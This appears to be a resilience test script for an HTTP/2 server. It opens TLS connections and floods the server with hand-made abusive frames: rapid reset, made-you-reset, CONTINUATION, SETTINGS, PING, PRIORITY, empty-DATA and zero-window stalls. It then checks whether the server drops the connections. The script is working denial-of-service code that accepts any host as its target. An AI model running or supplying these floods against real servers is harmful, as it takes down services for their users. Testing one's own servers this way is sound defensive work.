"""Frames that no client that means well sends: http2.py WHAT HOST PORT SECONDS. Sends as fast as it can, on a new
connection each time the server gives one up, and says how often that was; fails if the server gave none up that it
should have. Frames are made by hand where h2 refuses to."""
import select
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.settings

what, host, port, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
HEADERS = [(":method", "GET"), (":scheme", "https"), (":authority", "localhost"), (":path", "/openapi.json")]
end = time.monotonic() + seconds
frames = given_up = connections = received = 0


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def open_connection():
    global connections
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    sock = context.wrap_socket(socket.create_connection((host, port), timeout=5), server_hostname="localhost")
    h2c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    h2c.initiate_connection()
    connections += 1
    return sock, h2c


def request(h2c, stream, end_stream=True):
    h2c.send_headers(stream, HEADERS, end_stream=end_stream)


def rapid_reset(h2c, turn):
    for stream in range(turn * 200 + 1, turn * 200 + 201, 2):
        request(h2c, stream)
        h2c.reset_stream(stream, 8)
    return 200, b""


def made_you_reset(h2c, turn):
    """The server is made to take the streams back: a window update of zero is an error of the stream."""
    raw = b""
    for stream in range(turn * 200 + 1, turn * 200 + 201, 2):
        request(h2c, stream)
        raw += h2c.data_to_send() + frame(8, 0, stream, struct.pack(">I", 0))
    return 200, raw


def continuations(h2c, turn):
    raw = b""
    if turn == 0:
        raw = frame(1, 1, 1, b"\x82\x87\x84")
    return 200, raw + frame(9, 0, 1) * 100 + frame(9, 0, 1, b"\x40\x01a\x01b") * 100


def settings(h2c, turn):
    return 200, frame(4, 0, 0, struct.pack(">HI", 4, 65535 + turn % 100)) * 200


def pings(h2c, turn):
    return 200, frame(6, 0, 0, b"12345678") * 200


def empty_data(h2c, turn):
    if turn == 0:
        h2c.send_headers(1, [(":method", "POST")] + HEADERS[1:], end_stream=False)
        return 1, b""
    return 200, frame(0, 0, 1) * 200


def priority(h2c, turn):
    return 200, b"".join(frame(2, 0, s, struct.pack(">IB", 0, 5)) for s in range(turn * 400 + 1, turn * 400 + 401, 2))


def zero_window(h2c, turn):
    """Asks for as much as the server allows and never lets it send any of it."""
    if turn == 0:
        h2c.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    if turn < 100:
        request(h2c, turn * 2 + 1)
        return 1, b""
    time.sleep(0.05)
    return 0, b""


ATTACKS = {"rapid-reset": rapid_reset, "made-you-reset": made_you_reset, "continuations": continuations,
           "settings": settings, "pings": pings, "empty-data": empty_data, "zero-window": zero_window,
           "priority": priority}
# What the server counts, however well its answers are read. The last connection may be ended by the clock.
COUNTED = {"settings", "pings", "priority"}


def drain(sock):
    """What the server says is read, so that nothing but its own bounds holds it back."""
    global received
    while sock.pending() or select.select([sock], [], [], 0)[0]:
        data = sock.recv(65536)
        if not data:
            raise ConnectionError("closed")
        received += len(data)


def attack():
    global frames, given_up
    sock = None
    try:
        sock, h2c = open_connection()
        turn = 0
        while time.monotonic() < end:
            sent, raw = ATTACKS[what](h2c, turn)
            sock.sendall(h2c.data_to_send() + raw)
            frames += sent
            turn += 1
            drain(sock)
    except (OSError, ssl.SSLError):
        given_up += 1
    finally:
        if sock:
            sock.close()


while time.monotonic() < end:
    attack()
print(f"{what}: {frames} frames on {connections} connections, {given_up} given up by the server, "
      f"{received} bytes came back")
if what in COUNTED and given_up < max(1, connections - 1):
    sys.exit(f"{what}: the server went on with {connections - given_up} connections")
